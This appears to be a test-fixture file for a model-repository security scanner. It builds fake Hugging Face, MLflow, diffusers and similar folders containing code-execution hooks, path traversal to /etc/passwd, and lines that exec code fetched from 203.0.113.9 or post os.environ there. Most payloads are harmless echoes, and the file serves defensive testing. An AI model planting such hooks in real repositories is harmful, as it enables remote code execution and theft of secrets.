"""Hostile repository folders: code that loading runs, and references that lead out. Commands are `echo`."""

from __future__ import annotations

from stannary.testing.forges.repository_shapes import CARD, CONFIGURATION, CUSTOM, ECHO, HF, LFS, MODELING, safetensors, tree

__all__: list[str] = []

# Code that loading runs

tree("auto_map_system", {**CUSTOM, "modeling_x.py": ECHO + MODELING})
tree(
    "auto_map_indirect",
    {
        **CUSTOM,
        "configuration_x.py": "from . import helper\n" + CONFIGURATION,
        "helper.py": "import subprocess\nsubprocess.run('echo stannary', shell=True)\n",
    },
)
tree("auto_map_in_init", {**CUSTOM, "modeling_x.py": MODELING.replace("self.post_init()", "os.popen('echo stannary').read()")})
tree(
    "auto_map_hidden_call",
    {**CUSTOM, "modeling_x.py": MODELING + "\ngetattr(__import__('o' + 's'), 'sys' + 'tem')('echo stannary')\n"},
)
tree(
    "auto_map_network",
    {**CUSTOM, "modeling_x.py": "import requests\nexec(requests.get('http://203.0.113.9/x').text)\n" + MODELING},
)
tree(
    "auto_map_environment",
    {
        **CUSTOM,
        "modeling_x.py": "import requests\nrequests.post('http://203.0.113.9/x', data=str(dict(__import__('os').environ)))\n"
        + MODELING,
    },
)
tree("auto_map_remote", {**HF, "config.json": {"auto_map": {"AutoModel": "someone/else--modeling_x.XModel"}, "model_type": "x"}})
tree(
    "tokenizer_auto_map",
    {
        **HF,
        "tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]}},
        "tokenization_x.py": ECHO + "class XTokenizer: pass\n",
    },
)
tree(
    "processor_auto_map",
    {**HF, "preprocessor_config.json": {"auto_map": {"AutoImageProcessor": "processing_x.X"}}, "processing_x.py": ECHO},
)
tree(
    "custom_pipeline_impl",
    {
        **HF,
        "config.json": {"custom_pipelines": {"text": {"impl": "my_pipe.Pipe", "pt": ["AutoModel"]}}, "model_type": "bert"},
        "my_pipe.py": ECHO + "class Pipe: pass\n",
    },
)
tree(
    "nested_auto_map",
    {**HF, "config.json": {"model_type": "x", "vision_config": {"auto_map": {"AutoModel": "vision_x.V"}}}, "vision_x.py": ECHO},
)
tree("custom_generate", {**HF, "custom_generate/generate.py": ECHO + "def generate(model, **kw): pass\n"})
tree("handler", {**HF, "handler.py": ECHO + "class EndpointHandler:\n    def __init__(self, path=''):\n        pass\n"})
tree(
    "handler_in_init",
    {
        **HF,
        "handler.py": "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('echo stannary')\n",
    },
)
tree(
    "cached_bytecode",
    {**CUSTOM, "__pycache__/modeling_x.cpython-311.pyc": b"\xa7\r\r\n" + (1).to_bytes(4, "little") + bytes(8) + b"N"},
)
tree(
    "only_bytecode",
    {**{k: v for k, v in CUSTOM.items() if k != "modeling_x.py"}, "modeling_x.pyc": b"\xa7\r\r\n" + bytes(12) + b"N"},
)
tree(
    "adapter_library",
    {
        "adapter_config.json": {
            "peft_type": "LORA",
            "auto_mapping": {"base_model_class": "Model", "parent_library": "evil_package.loader"},
            "base_model_name_or_path": "x",
        },
        "adapter_model.safetensors": safetensors(),
        "README.md": CARD,
    },
)
tree(
    "st_modules_system",
    {
        "modules.json": [{"idx": 0, "name": "0", "path": "", "type": "os.system"}],
        "config_sentence_transformers.json": {"__version__": {}},
        "README.md": CARD,
    },
)
tree(
    "st_modules_local",
    {
        "modules.json": [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}],
        "custom_st.py": ECHO + "class Transformer: pass\n",
        "README.md": CARD,
    },
)
tree(
    "st_modules_foreign", {"modules.json": [{"idx": 0, "name": "0", "path": "", "type": "evil_package.Module"}], "README.md": CARD}
)
tree(
    "diffusers_pipeline",
    {
        "model_index.json": {"_class_name": ["pipeline", "MyPipeline"], "_diffusers_version": "0.30.0"},
        "pipeline.py": ECHO + "class MyPipeline: pass\n",
        "README.md": CARD,
    },
)
tree(
    "diffusers_component",
    {
        "model_index.json": {"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "UNet"]},
        "unet/my_unet.py": ECHO,
        "README.md": CARD,
    },
)
tree(
    "diffusers_module",
    {"model_index.json": {"_class_name": "StableDiffusionPipeline", "unet": ["subprocess", "Popen"]}, "README.md": CARD},
)
tree(
    "mlflow_loader",
    {
        "MLmodel": "flavors:\n  python_function:\n    code: code\n    loader_module: my_loader\n",
        "code/my_loader.py": ECHO + "def _load_pyfunc(path): pass\n",
    },
)
tree(
    "mlflow_code_model",
    {
        "MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: /home/u/model.py\n",
        "model.py": ECHO + "import mlflow\nmlflow.models.set_model(object())\n",
    },
)
tree("mlflow_subprocess", {"MLmodel": "flavors:\n  python_function:\n    loader_module: subprocess\n"})
tree(
    "mlflow_outside",
    {
        "MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: ../../../etc\n    code: ../../outside\n"
    },
)
tree(
    "torchserve",
    {
        "MAR-INF/MANIFEST.json": {
            "runtime": "python",
            "model": {"modelName": "x", "handler": "handler_x.py", "serializedFile": "model.pt"},
        },
        "handler_x.py": ECHO + "def handle(d, c): pass\n",
    },
)
tree(
    "spacy_code",
    {
        "config.cfg": '[nlp]\nlang = "en"\npipeline = ["x"]\n\n[components.x]\nfactory = "x"\n\n[nlp.before_creation]\n@callbacks = "hook.v1"\n',
        "meta.json": {"lang": "en", "name": "x"},
        "functions.py": ECHO,
    },
)
tree("hubconf", {"hubconf.py": "dependencies = ['torch']\n" + ECHO + "def model(): pass\n"})
tree("triton", {"config.pbtxt": 'name: "m"\nbackend: "python"\n', "1/model.py": ECHO + "class TritonPythonModel: pass\n"})
tree("cog", {"cog.yaml": "predict: 'predict.py:Predictor'\n", "predict.py": ECHO + "class Predictor: pass\n"})
tree("startup_module", {**HF, "sitecustomize.py": "print('x')\n"})
tree("path_file", {**HF, "x.pth": "import os; os.system('echo stannary')\n"})
tree("shard_outside", {**HF, "model.safetensors.index.json": {"weight_map": {"w": "../../secret.safetensors"}}})
tree("shard_url", {**HF, "pytorch_model.bin.index.json": {"weight_map": {"w": "https://203.0.113.9/pytorch_model.bin"}}})
tree(
    "reduce_in_modeling",
    {
        **CUSTOM,
        "modeling_x.py": MODELING + "\nclass P:\n    def __reduce__(self):\n        return (os.system, ('echo stannary',))\n",
    },
)
tree("lfs_pointer", {**{k: v for k, v in HF.items() if k != "model.safetensors"}, "pytorch_model.bin": LFS}, malicious=None)

tree("auto_map_broken", {**CUSTOM, "modeling_x.py": ECHO + MODELING + "\nprint 'two'\n"}, malicious=None)
tree(
    "shard_missing",
    {
        **{k: v for k, v in HF.items() if k != "model.safetensors"},
        "model.safetensors.index.json": {"weight_map": {"w": "model-00001-of-00001.safetensors"}},
    },
    malicious=False,
)
tree("shadow_weights", {**HF, "pytorch_model.bin": b"\x80\x02}q\x00."}, malicious=False)

for _name, _text in {
    "takes_module": "import sys\nsys.modules['torch'] = __import__('x_torch')\n",
    "hooks_imports": "import sys\n\n\nclass Finder:\n    def find_spec(self, name, path, target=None):\n        return None\n\n\nsys.meta_path.insert(0, Finder())\n",
    "replaces_load": "import torch\ntorch.load = lambda *a, **k: None\n",
    "lambda_body": "import os\nfactory = type('X', (), {'__init__': lambda self: os.system('echo stannary')})\n",
    "own_library": "import ctypes\nctypes.CDLL('./libx.so')\n",
}.items():
    tree(f"code_{_name}", {**CUSTOM, "modeling_x.py": _text + MODELING})
tree(
    "setup_install_command",
    {
        **HF,
        "setup.py": "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass Run(install):\n    def run(self):\n        subprocess.run(['echo', 'stannary'])\n        install.run(self)\n\n\nsetup(name='x', cmdclass={'install': Run})\n",
    },
)

tree(
    "adapter_climbs",
    {
        "adapter_config.json": {"peft_type": "LORA", "base_model_name_or_path": "../../../tmp/base"},
        "adapter_model.safetensors": safetensors(),
        "README.md": CARD,
    },
)
tree(
    "adapter_beside",
    {
        "adapter_config.json": {"peft_type": "LORA", "base_model_name_or_path": "../llama-7b"},
        "adapter_model.safetensors": safetensors(),
        "README.md": CARD,
    },
    malicious=False,
)
tree("tokenizer_reads_passwd", {**HF, "tokenizer_config.json": {"tokenizer_class": "BertTokenizer", "vocab_file": "/etc/passwd"}})
tree(
    "tokenizer_reads_above",
    {**HF, "tokenizer_config.json": {"tokenizer_class": "BertTokenizer", "tokenizer_file": "../../secret.json"}},
)
tree(
    "tokenizer_from_cache",
    {**HF, "tokenizer_config.json": {"tokenizer_file": "/home/user/.cache/huggingface/hub/tokenizer.json"}},
    malicious=False,
)
tree(
    "part_climbs",
    {
        "model_index.json": {"_class_name": "StableDiffusionPipeline", "../../unet": ["diffusers", "UNet2DConditionModel"]},
        "README.md": CARD,
    },
)
tree(
    "dense_activation",
    {
        "modules.json": [{"idx": 0, "name": "0", "path": "1_Dense", "type": "sentence_transformers.models.Dense"}],
        "1_Dense/config.json": {"in_features": 2, "out_features": 2, "activation_function": "os.system"},
        "README.md": CARD,
    },
)
tree(
    "dense_tanh",
    {
        "modules.json": [{"idx": 0, "name": "0", "path": "1_Dense", "type": "sentence_transformers.models.Dense"}],
        "1_Dense/config.json": {"in_features": 2, "out_features": 2, "activation_function": "torch.nn.modules.activation.Tanh"},
        "README.md": CARD,
    },
    malicious=False,
)
tree(
    "mlflow_pickle_module",
    {
        "MLmodel": "flavors:\n  pytorch:\n    model_data: data\n  python_function:\n    loader_module: mlflow.pytorch\n",
        "data/pickle_module_info.txt": "x_pickle",
        "README.md": CARD,
    },
)
tree(
    "mlflow_artifact_climbs",
    {
        "MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    artifacts:\n      x:\n        path: ../../x\n        uri: runs:/1/x\n",
        "README.md": CARD,
    },
)
